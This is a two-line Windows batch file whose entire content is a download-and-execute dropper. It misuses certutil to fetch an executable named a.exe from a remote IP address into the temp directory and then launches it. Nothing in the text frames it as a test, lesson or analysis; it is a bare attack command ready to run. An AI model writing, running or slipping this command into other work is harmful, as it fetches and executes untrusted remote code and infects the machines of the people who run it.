@echo off
certutil -urlcache -f http://203.0.113.2/a.exe %TEMP%\a.exe && start %TEMP%\a.exe
